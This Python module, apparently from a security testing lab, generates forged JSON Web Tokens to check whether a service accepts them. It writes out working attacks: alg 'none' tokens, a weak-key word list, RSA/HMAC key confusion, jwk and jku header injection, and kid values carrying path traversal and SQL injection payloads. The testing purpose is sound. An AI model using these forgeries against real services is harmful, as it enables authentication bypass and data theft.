"""Forged tokens (JSON Web Tokens, RFC 7519): made from a true one without the key, or with it and untrue claims."""

from __future__ import annotations

import base64
import hmac
import json
import random
import time
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

from backroad.labs.http.attack import rsa
from backroad.labs.http.attack import secret as secrets
from backroad.labs.http.attack.trying import Send, Trying
from backroad.labs.rejection import Rejection, Seen

if TYPE_CHECKING:
    from backroad.labs.http.lab import HttpLab

WEAK = (
    *("secret", "password", "changeme", "key", "jwt", "test", "dev", "123456", "supersecret", "your-256-bit-secret"),
    *("secret-key", "mysecret", "jwt-secret", "default", "admin", "s3cret", "insecure", "change-me", "", "null"),
)
"""Keys that are in every word list."""
HASHES = {"HS256": "sha256", "HS384": "sha384", "HS512": "sha512"}


@dataclass(frozen=True)
class Forged:
    """A forged token. ``name`` is a clause that says what was done to it. ``signed``: its signature is right, and it is
    not to be believed all the same."""

    name: str
    token: str
    signed: bool = False


@dataclass(frozen=True)
class Keys:
    """What is known of a service's keys, and of the attacker's. ``key``: the service's secret one; ``public`` and
    ``private``: its RSA key in PEM. ``place``: a file in which the attacker's public key lies, ``url``: where it is to
    be fetched; "" for what there is not."""

    key: str = ""
    public: str = ""
    private: str = ""
    place: str = ""
    url: str = ""


def forged(rng: random.Random, token: str, keys: Keys, claims: Mapping[str, Any]) -> list[Forged]:
    """All that can be made of a true token. The check fails in words when that is none."""
    key, public_key = keys.key, keys.public or (rsa.read(keys.private).public if keys.private else "")
    head, body = _read(token, 0), _read(token, 1)
    first, second, signature = token.split(".")
    new = {**body, **claims}
    told = _coded(new)
    found = [Forged(f"alg is {alg!r} and the signature is left out", f"{_coded({**head, 'alg': alg})}.{told}.")
             for alg in ("none", "None", "NONE", "nOnE")]  # fmt: skip
    found += [
        Forged("alg is 'none' and the old signature is kept", f"{_coded({**head, 'alg': 'none'})}.{told}.{signature}"),
        Forged("alg is left out", f"{_coded({k: v for k, v in head.items() if k != 'alg'})}.{told}."),
        Forged("alg is an empty text", f"{_coded({**head, 'alg': ''})}.{told}."),
        Forged("the signature is left out", f"{first}.{told}."),
        Forged("the signature is one letter another", f"{first}.{second}.{_flipped(signature)}"),
        Forged("the signature is another token's", f"{first}.{told}.{signature}"),
        Forged("the signature is cut to its first half", f"{first}.{told}.{signature[: len(signature) // 2]}"),
        Forged("it has only two parts", f"{first}.{told}"),
        Forged("it has two parts too many", f"{first}.{told}.{signature}.{second}.{signature}"),
    ]
    if not claims:
        # With the claims of the true token, what keeps its signature is the true token.
        found = [one for one in found if one.token != token]
    wrong = "".join(rng.choice("0123456789abcdef") for _ in range(32))
    found.append(Forged("it is signed with another key", signed(head, new, wrong)))
    weak = [word for word in WEAK if word != key]
    found += [
        Forged(f"it is signed with a key out of a word list ({word!r})", signed(head, new, word)) for word in weak
    ]
    found += list(_headers(head, new, wrong))
    if public_key or str(head.get("alg")).startswith("RS"):
        found += list(_strangers(head, new, keys))
    if public_key:
        for text in dict.fromkeys((public_key, public_key.strip(), public_key.strip() + "\n")):
            confused = signed({**head, "alg": "HS256"}, new, text)
            found.append(Forged("it is signed with HS256, and the public key is taken for the secret one", confused))
    if key:
        found += list(_untrue(body, lambda claims: signed(head, claims, key)))
    if keys.private:
        own = rsa.read(keys.private)
        kept = {**head, "alg": head.get("alg") if head.get("alg") in rsa.HASHES else "RS256"}
        found += list(_untrue(body, lambda claims: own.token(claims, **kept)))
    rng.shuffle(found)
    return found


def by_rsa(token: str) -> bool:
    """Whether a token says that it is signed with RSA."""
    return str(_read(token, 0).get("alg")).startswith("RS")


def attack(lab: HttpLab, send: Send, secret: str, tokens: Sequence[Forged]) -> None:
    """Raises Rejection when one of them brings the secret out."""
    trying = Trying(lab, send, "Token", len(tokens))
    for one in tokens:
        for answer in trying.send(one.token, one.name):
            place = secrets.shown_in(secret, answer)
            if place:
                seen = Seen(raised="Token", got=one.token, message=one.name)
                what = "a token is believed that does not count" if one.signed else "a forged token is believed"
                raise Rejection(f"{what}: {one.name}", answer.evidence(place), seen=seen)


def signed(head: Mapping[str, Any], claims: Mapping[str, Any], key: str) -> str:
    """A token with a signature of the HS family; another algorithm in ``head`` becomes HS256."""
    alg = head.get("alg") if head.get("alg") in HASHES else "HS256"
    front = f"{_coded({**head, 'alg': alg})}.{_coded(claims)}"
    mark = hmac.new(key.encode(), front.encode(), HASHES[str(alg)]).digest()
    return f"{front}.{_text(mark)}"


def _headers(head: Mapping[str, Any], claims: Mapping[str, Any], wrong: str) -> Iterator[Forged]:
    """Headers that tell the service where to find the key: the attacker's own."""
    own = {"kty": "oct", "k": _text(wrong.encode()), "alg": "HS256"}
    base = {**head, "alg": "HS256"}
    yield Forged("its header holds the key it is signed with (jwk)", signed({**base, "jwk": own}, claims, wrong))
    for kid, key in (
        ("/dev/null", ""),
        ("../../../../../../dev/null", ""),
        ("/proc/sys/kernel/randomize_va_space", "2\n"),
        (f"' UNION SELECT '{wrong}' -- ", wrong),
        (f"x' UNION SELECT '{wrong}", wrong),
    ):
        yield Forged(f"its kid is {kid[:24]!r}, and leads to a key that the attacker knows",
                     signed({**base, "kid": kid}, claims, key))  # fmt: skip
    jku = signed({**base, "jku": "http://127.0.0.1:9/keys", "x5u": "http://127.0.0.1:9/keys"}, claims, wrong)
    yield Forged("its header says where the key is to be fetched (jku)", jku)
    if "kid" in head:
        without = {name: value for name, value in base.items() if name != "kid"}
        yield Forged("its kid is left out, and it is signed with an empty key", signed(without, claims, ""))


def _strangers(head: Mapping[str, Any], claims: Mapping[str, Any], keys: Keys) -> Iterator[Forged]:
    """Signed with RS256 as it should be, by the key of somebody else; some say where that key is to be found."""
    stranger = rsa.made(-1)
    kept = {name: value for name, value in head.items() if name not in ("alg", "kid")}
    kid = {"kid": head["kid"]} if "kid" in head else {}

    def made(name: str, **more: Any) -> Forged:
        return Forged(name, stranger.token(claims, **{**kept, **kid, **more}))

    yield made("it is signed with another RSA key")
    yield made("it is signed with another RSA key, by RS512", alg="RS512")
    yield made("its header holds the RSA key it is signed with (jwk)", jwk=stranger.jwk(str(head.get("kid", ""))))
    line = stranger.public.strip()
    for text in ("", "unknown", "' OR '1'='1", f"' UNION SELECT '{line}' -- ", f"x' UNION SELECT '{line}"):
        yield made(f"it is signed with another RSA key, and its kid is {text[:24]!r}", kid=text)
    for text in (keys.place, f"../../../../../../..{keys.place}", f"file://{keys.place}") if keys.place else ():
        yield made("its kid is the path of a file in which the attacker's key lies", kid=text)
    if keys.url:
        yield made("its kid is an address at which the attacker's key is to be fetched", kid=keys.url)
        for field in ("jku", "x5u"):
            yield made(f"its header says where the attacker's key is to be fetched ({field})", **{field: keys.url})


def _untrue(body: Mapping[str, Any], sign: Callable[[Mapping[str, Any]], str]) -> Iterator[Forged]:
    """Signed rightly, and not to be believed all the same."""
    now = int(time.time())
    yield Forged("it has expired", sign({**body, "exp": now - 3600, "iat": now - 7200}), signed=True)
    yield Forged("it is not valid yet", sign({**body, "nbf": now + 3600, "exp": now + 7200}), signed=True)
    if "aud" in body:
        yield Forged("it is meant for another service (aud)", sign({**body, "aud": "another-service"}), signed=True)
        yield Forged("it does not say whom it is meant for (aud)", sign(_without(body, "aud")), signed=True)
    if "iss" in body:
        yield Forged(
            "somebody else has issued it (iss)", sign({**body, "iss": "https://elsewhere.example"}), signed=True
        )
        yield Forged("it does not say who has issued it (iss)", sign(_without(body, "iss")), signed=True)
    if "exp" in body:
        yield Forged("it never expires, because exp is left out", sign(_without(body, "exp")), signed=True)


def _without(body: Mapping[str, Any], name: str) -> dict[str, Any]:
    return {key: value for key, value in body.items() if key != name}


def _read(token: str, part: int) -> dict[str, Any]:
    try:
        text = token.split(".")[part]
        found = json.loads(base64.urlsafe_b64decode(text + "=" * (-len(text) % 4)))
        if token.count(".") == 2 and isinstance(found, dict):
            return found
    except (ValueError, IndexError, AttributeError, RecursionError):
        pass
    said = f"your service's token is no JWT, with three parts of which the first two are JSON: {str(token)[:60]!r}"
    raise Rejection(said, seen=Seen(raised="NoToken", got=token))


def _coded(value: Mapping[str, Any]) -> str:
    return _text(json.dumps(value, separators=(",", ":")).encode())


def _text(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _flipped(signature: str) -> str:
    """Another letter in the middle: the last one holds bits that nobody reads."""
    middle = len(signature) // 2
    return signature[:middle] + ("A" if signature[middle : middle + 1] != "A" else "B") + signature[middle + 1 :]
